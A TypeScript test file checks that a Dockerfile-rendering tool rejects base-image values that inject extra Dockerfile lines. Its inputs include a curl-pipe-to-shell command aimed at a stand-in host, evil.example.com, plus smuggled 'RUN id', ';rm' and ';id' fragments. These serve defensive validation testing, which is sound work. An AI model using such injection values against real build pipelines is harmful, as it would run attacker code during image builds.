import { describe, expect, test } from "vitest";
import { ImageConfigError, parseImageReference, renderBuildContext } from "../src/index.js";
import { parseEnvironment } from "../src/load-environment.js";

const spec = parseEnvironment("environment.yml", "dependencies: [dask]\n");
const render = (baseImage: string) => renderBuildContext(spec, { baseImage, installer: "micromamba" });
const messageOf = (baseImage: string) => {
  try {
    render(baseImage);
  } catch (error) {
    expect(ImageConfigError.isInstance(error) && (error as ImageConfigError).option).toBe("base-image");
    return (error as Error).message;
  }
  return "(no error)";
};

describe("base-image cannot inject Dockerfile lines", () => {
  test("a line break in the registry part", () => {
    // Before validation this rendered "FROM evil.example.com", "RUN curl -s evil.example.com|sh", "FROM mambaorg/...".
    const hostile = "evil.example.com\nRUN curl -s evil.example.com|sh\nFROM mambaorg/micromamba:2.0.5";
    expect(messageOf(hostile)).toMatchInlineSnapshot(
      `"base-image: "evil.example.com\\nRUN curl -s evil.example.com|sh\\nFROM mambaorg/micromamba:2.0.5" is not an image reference: it contains a line break (\\n) at character 17; an image reference has no whitespace or control characters; write e.g. ghcr.io/org/dask:tag or 123456789012.dkr.ecr.us-east-1.amazonaws.com/dask"`,
    );
  });

  test("a registry part that is not host[:port]", () => {
    expect(messageOf("evil.example.com;rm/mambaorg/micromamba:2.0.5")).toMatchInlineSnapshot(
      `"base-image: "evil.example.com;rm/mambaorg/micromamba:2.0.5" is not an image reference: the registry "evil.example.com;rm" is not a host or host:port (letters, digits, '-' and '.', e.g. ghcr.io or localhost:5000); write e.g. ghcr.io/org/dask:tag or 123456789012.dkr.ecr.us-east-1.amazonaws.com/dask"`,
    );
  });

  test.each([
    ["line feed after the tag", "mambaorg/micromamba:2.0.5\nRUN id"],
    ["carriage return", "mambaorg/micromamba:2.0.5\rRUN id"],
    ["trailing newline", "mambaorg/micromamba:2.0.5\n"],
    ["leading space", " mambaorg/micromamba:2.0.5"],
    ["space inside", "mambaorg/micromamba:2.0.5 AS x"],
    ["tab", "mambaorg/micromamba:2.0.5\t"],
    ["NUL", "mambaorg/micromamba:2.0.5\u0000"],
    ["unicode line separator", "ghcr.io\u2028RUN id/org/dask:1"],
    ["registry with a backslash", "evil.example.com\\/org/dask:1"],
    ["registry with a path-less colon", "evil.example.com:/org/dask:1"],
    ["registry with a port that is not a number", "evil.example.com:http/org/dask:1"],
    ["registry with a port above 65535", "evil.example.com:99999/org/dask:1"],
    ["registry label starting with '-'", "-evil.example.com/org/dask:1"],
    ["registry with an empty label", "evil..example.com/org/dask:1"],
    ["registry with a user", "user@evil.example.com/org/dask:1"],
    ["upper-case repository", "ghcr.io/Org/dask:1"],
    ["empty path component", "ghcr.io//dask:1"],
    ["tag with a slash-free injection", "ghcr.io/org/dask:1;id"],
    ["digest that is not sha256 hex", "ghcr.io/org/dask@sha256:xyz"],
    ["name longer than 255 characters", `ghcr.io/${"a".repeat(250)}:1`],
  ])("refused: %s", (_, reference) => {
    expect(messageOf(reference)).toMatch(/^base-image: ".*" is not an image reference: /s);
  });

  test.each([
    ["mambaorg/micromamba:2.0.5", "docker.io", "mambaorg/micromamba"],
    ["python:3.12-slim", "docker.io", "library/python"],
    ["ghcr.io/org/dask:env-0123456789abcdef", "ghcr.io", "org/dask"],
    ["localhost:5000/dfa-tests/probe:1", "localhost:5000", "dfa-tests/probe"],
    ["127.0.0.1:5000/probe:1", "127.0.0.1:5000", "probe"],
    ["[::1]:5000/probe:1", "[::1]:5000", "probe"],
    ["Registry.Example.COM/team/dask:1", "Registry.Example.COM", "team/dask"],
    ["123456789012.dkr.ecr.us-east-1.amazonaws.com/dask:1", "123456789012.dkr.ecr.us-east-1.amazonaws.com", "dask"],
    ["my-registry:5000/a/b__c/d-e.f:v1.2_3", "my-registry:5000", "a/b__c/d-e.f"],
    [`mambaorg/micromamba:2.0.5@sha256:${"0".repeat(64)}`, "docker.io", "mambaorg/micromamba"],
  ])("accepted: %s", (reference, registry, repository) => {
    expect(parseImageReference(reference, "base-image")).toMatchObject({ registry, repository });
    expect(render(reference).dockerfile).toContain(`\nFROM ${reference}\n`);
  });

  test("the FROM line is the only line the base image reaches, and it is one line", () => {
    const context = render("localhost:5000/team/dask:1");
    expect(
      context.dockerfile
        .split("\n")
        .filter((l) => l.includes("localhost:5000"))
        .map((l) => l.split(" ")[0]),
    ).toEqual(["FROM", "LABEL"]);
  });
});

test("the image option is held to the same rules", () => {
  expect(() => parseImageReference("ghcr.io\n/org/dask", "image")).toThrowErrorMatchingInlineSnapshot(
    `[ImageConfigError: image: "ghcr.io\\n/org/dask" is not an image reference: it contains a line break (\\n) at character 8; an image reference has no whitespace or control characters; write e.g. ghcr.io/org/dask:tag or 123456789012.dkr.ecr.us-east-1.amazonaws.com/dask]`,
  );
});
